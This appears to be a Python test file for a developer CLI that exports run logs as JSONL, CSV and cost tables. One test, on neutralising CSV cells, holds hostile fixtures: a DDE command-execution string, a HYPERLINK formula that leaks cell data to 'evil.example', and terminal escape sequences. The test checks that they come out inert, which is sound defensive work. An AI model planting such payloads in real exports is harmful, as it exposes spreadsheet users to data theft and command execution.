"""``crux-devtools runs --format jsonl|csv`` and the cost column, run for real as subprocesses; the
documented schema of runs.sqlite3 answers the documented queries with plain sqlite3."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

from test_cli_runs import cli, fake, write_runs

REPO = Path(__file__).resolve().parents[3]
PRICED = "[tool.crux-devtools.models.m-1]\ncontext_window = 8000\ninput_price = 2.0\noutput_price = 10.0\n"


def test_jsonl_is_one_whole_run_per_line_oldest_first(tmp_path: Path) -> None:
    write_runs(tmp_path, fake(1), fake(2, status="error"), fake(3))
    done = cli("runs", str(tmp_path), "--format", "jsonl", "--limit", "2")
    assert done.returncode == 0, done.stderr
    runs = [json.loads(line) for line in done.stdout.splitlines()]
    assert [r["id"] for r in runs] == ["r2", "r3"]
    assert runs[0]["steps"] == [{"index": 0, "request": {"input_tokens": 1002}}] and runs[0]["cost_usd"] is None


def test_csv_has_a_header_and_a_row_per_run_with_usage_and_cost(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(PRICED, encoding="utf-8")
    tricky = fake(2, target="helper")
    tricky["text"] = 'a "quoted", multi\nline answer'
    write_runs(tmp_path, fake(1), tricky)
    done = cli("runs", str(tmp_path), "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [r["id"] for r in rows] == ["r1", "r2"]
    assert rows[1]["text"] == 'a "quoted", multi\nline answer'
    assert (rows[0]["usage_input_tokens"], rows[0]["usage_output_tokens"], rows[0]["steps"], rows[0]["input_tokens"]) == ("120", "7", "1", "1001")
    assert float(rows[0]["cost_usd"]) == (120 * 2.0 + 7 * 10.0) / 1e6
    assert rows[0]["cache_read_tokens"] == "" and rows[0]["error_type"] == ""


def test_the_table_has_a_cost_column_and_the_filters_total_on_stderr(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(PRICED, encoding="utf-8")
    other = fake(3)
    other["model"] = "unknown-model"
    write_runs(tmp_path, fake(1), fake(2), other)
    done = cli("runs", str(tmp_path))
    header, *lines = done.stdout.splitlines()
    assert "COST" in header.split()
    each = (120 * 2.0 + 7 * 10.0) / 1e6
    assert "unpriced" in lines[0] and f"${each:.4g}" in lines[1]
    assert f"cost of every run these filters match: ${2 * each:.4g} (1 unpriced)" in done.stderr


def test_the_documented_queries_run_on_a_real_store(tmp_path: Path) -> None:
    write_runs(tmp_path, fake(1), fake(2, status="error"), fake(3, target="solo"))
    doc = (REPO / "docs" / "runs-schema.md").read_text(encoding="utf-8")
    queries = re.findall(r"```sql\n(.*?)```", doc, re.S)
    assert len(queries) >= 3
    conn = sqlite3.connect(f"file:{tmp_path / '.crux' / 'runs.sqlite3'}?mode=ro", uri=True)
    try:
        results = [conn.execute(q).fetchall() for q in queries]
        tables = {row[0] for row in conn.execute("SELECT name FROM sqlite_master WHERE type IN ('table', 'view')")}
    finally:
        conn.close()
    assert all(results), "every documented query returns rows on a store with runs"
    for table in ("runs", "run_summaries", "steps", "run_counts", "meta"):
        assert table in tables and f"`{table}`" in doc


def test_csv_cells_that_a_spreadsheet_would_run_or_a_terminal_obey_are_made_inert(tmp_path: Path) -> None:
    hostile = fake(1, target="@SUM(A1:A9)")
    hostile["model"] = "+cmd|' /C calc'!A0"
    hostile["text"] = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
    hostile["error"] = {"type": "-2+3", "message": "\tlead tab \x1b]0;owned\x07 bell, \r\nline two\x00"}
    safe = fake(2)
    safe["text"] = "a - b = c @ home\nsecond line"
    write_runs(tmp_path, hostile, safe)
    done = cli("runs", str(tmp_path), "--format", "csv")
    assert done.returncode == 0, done.stderr
    first, second = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    assert first["target"] == "'@SUM(A1:A9)" and first["model"] == "'+cmd|' /C calc'!A0" and first["error_type"] == "'-2+3"
    assert first["text"] == "'" + hostile["text"]
    assert first["error_message"] == "\\tlead tab \\x1b]0;owned\\x07 bell, \\r\nline two\\x00"  # shown, never obeyed
    assert not any(ch in done.stdout.replace("\r\n", "").replace("\n", "") for ch in "\x1b\x07\x00\t")
    assert second["text"] == "a - b = c @ home\nsecond line" and second["duration_ms"] == "1502.0"  # plain text and numbers as they were


def test_runs_export_prints_what_runs_format_jsonl_or_csv_prints_and_runs_alone_is_runs_list(tmp_path: Path) -> None:
    write_runs(tmp_path, fake(1), fake(2, status="error", target="solo"), fake(3))
    for fmt in ("jsonl", "csv"):
        exported = cli("runs", "export", str(tmp_path), "--format", fmt, "--status", "ok", "--limit", "5")
        listed = cli("runs", str(tmp_path), "--format", fmt, "--status", "ok", "--limit", "5")
        assert exported.returncode == 0, exported.stderr
        assert exported.stdout == listed.stdout and exported.stdout.count("r1") and "r2" not in exported.stdout
    assert [json.loads(line)["id"] for line in cli("runs", "export", str(tmp_path), "--target", "solo").stdout.splitlines()] == ["r2"]
    table = cli("runs", str(tmp_path))
    assert table.returncode == 0 and cli("runs", "list", str(tmp_path)).stdout == table.stdout
    assert [line.split()[-1] for line in table.stdout.splitlines()[1:]] == ["r3", "r2", "r1"]


def test_runs_export_takes_only_the_formats_for_other_tools(tmp_path: Path) -> None:
    done = cli("runs", "export", str(tmp_path), "--format", "table")
    assert done.returncode == 2 and "'table' is not one of 'jsonl', 'csv'" in done.stderr


def test_runs_stats_counts_each_targets_runs_by_status_with_their_cost(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(PRICED, encoding="utf-8")
    write_runs(tmp_path, fake(1), fake(2, status="error"), fake(3, target="solo", status="max_steps"), fake(4))
    done = cli("runs", "stats", str(tmp_path))
    assert done.returncode == 0, done.stderr
    each = (120 * 2.0 + 7 * 10.0) / 1e6
    header, *lines = [line.split() for line in done.stdout.splitlines()]
    assert header == ["TARGET", "RUNS", "OK", "ERROR", "MAX_STEPS", "COST"]
    assert lines == [["helper", "3", "2", "1", "0", f"${3 * each:.4g}"], ["solo", "1", "0", "0", "1", f"${each:.4g}"]]
    only = json.loads(cli("runs", "stats", str(tmp_path), "--status", "error", "--json").stdout)
    assert only == [{"target": "helper", "runs": 1, "ok": 0, "error": 1, "max_steps": 0, "cost": f"${each:.4g}"}]


def test_the_cost_column_has_one_precision_and_no_exponent(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(PRICED, encoding="utf-8")
    tiny, big = fake(1), fake(2)
    tiny["usage"] = {"input_tokens": 16, "output_tokens": 2}  # 5.2e-05 dollars
    big["usage"] = {"input_tokens": 600_000, "output_tokens": 30_000}  # 1.5 dollars
    write_runs(tmp_path, tiny, big)
    done = cli("runs", str(tmp_path))
    assert done.returncode == 0, done.stderr
    header, *lines = done.stdout.splitlines()
    at = header.index("COST")
    costs = [re.search(r"\$[\d,.]+", line[at - 12:]).group(0) for line in lines]  # type: ignore[union-attr]
    assert costs == ["$1.500000", "$0.000052"]  # newest first
    assert "e-0" not in done.stdout
